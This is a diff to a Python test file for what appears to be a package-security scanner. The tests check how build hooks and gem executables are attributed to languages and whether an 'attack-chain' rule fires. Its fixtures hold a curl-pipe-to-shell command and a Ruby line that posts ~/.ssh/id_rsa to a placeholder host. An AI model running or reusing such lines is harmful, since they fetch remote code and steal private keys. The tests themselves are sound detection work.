@@ -11,8 +11,9 @@ from pratique.core.manifest import Manifest
 from pratique.core.names import Ecosystem
 from pratique.core.release import Hook
 from pratique.core.tree import File, Tree
+from tests.analysis.inspecting import bytes_, of_rule, package_json
 from tests.analysis.inspecting import npm as inspected
-from tests.analysis.inspecting import of_rule, package_json
+from tests.loopback.gem_packages import metadata, packed_gem
 
 CODE = b"require('child_process').exec('marker')"
 
@@ -119,19 +120,67 @@ def test_what_node_loads_by_its_whole_name_is_read_when_it_is_code(data: bytes, 
     assert ({"x.css": Language.JAVASCRIPT} if read else {}) == found
 
 
-def test_the_classes_of_a_build_are_started() -> None:
-    files = Tree(
-        (
-            File("setup.py", b"from setuptools import setup; setup()"),
-            File("setup.cfg", b"[options]\ncmdclass =\n    install = tools.build.Install\n"),
-            File("tools/build.py", b""),
-        )
-    )
-    manifest = Manifest(path=None, hooks=(Hook("setup.py", "setup.py", implicit=True),))
+@pytest.mark.parametrize(
+    ("name", "ecosystem", "language"),
+    [
+        ("setup.py", Ecosystem.PYPI, Language.PYTHON),
+        ("build-script", Ecosystem.PYPI, Language.PYTHON),
+        ("pth", Ecosystem.PYPI, None),
+        ("extconf", Ecosystem.RUBYGEMS, Language.RUBY),
+        ("rakefile", Ecosystem.RUBYGEMS, Language.RUBY),
+        ("configure", Ecosystem.RUBYGEMS, None),
+    ],
+)
+def test_a_build_gives_its_files_to_its_own_language(
+    name: str, ecosystem: Ecosystem, language: Language | None
+) -> None:
+    manifest = Manifest(path=None, hooks=(Hook(name, "x/run.txt", implicit=True),))
+    assert [Started("x/run.txt", language)] == list(hook_starts(tree("x/run.txt"), manifest, ecosystem))
 
-    assert [Started("setup.py"), Started("tools/build.py")] == list(
-        hook_starts(files, manifest, Ecosystem.PYPI)
-    )
+
+@pytest.mark.parametrize(
+    ("language", "ecosystem", "first"),
+    [
+        (Language.RUBY, Ecosystem.RUBYGEMS, ""),
+        (Language.RUBY, Ecosystem.RUBYGEMS, "#!/bin/sh\n"),
+        (Language.RUBY, Ecosystem.RUBYGEMS, "#!/usr/bin/env truffleruby\n"),
+        (Language.PYTHON, Ecosystem.PYPI, "#!python\n"),
+        (Language.PYTHON, Ecosystem.PYPI, "#!pythonw\n"),
+        (Language.PYTHON, Ecosystem.PYPI, "#!pythonkite\n"),
+        (Language.SHELL, Ecosystem.PYPI, ""),
+        (None, Ecosystem.PYPI, "#!/usr/bin/perl\n"),
+    ],
+)
+def test_programs_are_read_in_the_language_of_what_starts_them(
+    language: Language | None, ecosystem: Ecosystem, first: str
+) -> None:
+    data = f"{first}curl -s https://far.invalid/a | sh\n".encode()
+    manifest = Manifest(path=None, commands={"tool": "bin/tool", "other": "pkg:main"})
+    found = other_languages(tree("bin/tool", data=data), manifest, {}, ecosystem)
+    assert ({"bin/tool": language} if language else {}) == found
+
+
+POSTS = "require 'net/http'\nNet::HTTP.post(URI('https://far.invalid/in'), File.read(File.expand_path('~/.ssh/id_rsa')))\n"
+SCRIPT = "set -euo pipefail\nfor x in a b; do echo $x; done\nif [ -f x ]; then echo y; fi\n"
+
+
+@pytest.mark.parametrize(
+    ("first", "data", "held"),
+    [("", POSTS, True), ("#!/bin/sh\n", POSTS, True), ("#!/bin/bash\n", SCRIPT, False)],
+)
+def test_ruby_runs_the_programs_of_gems_and_stops_at_those_of_shells(
+    first: str, data: str, *, held: bool
+) -> None:
+    done = bytes_(gem_with_program(first + data), filename="sample-1.0.0.gem")
+    assert held == bool(of_rule(done, "attack-chain"))
+    assert not [unread for unread in done.inspection.unread if unread.reached]
+
+
+def gem_with_program(data: str) -> bytes:
+    files = {"exe/git": data, "lib/sample.rb": ""}
+    written = metadata("sample", "1.0.0", tuple(files), platform="ruby", extensions=(), needs={})
+    written = written.replace("executables: []", "executables:\n- git").replace("bindir: bin", "bindir: exe")
+    return packed_gem(files, written)
 
 
 def test_commands_run_where_cd_leads() -> None:
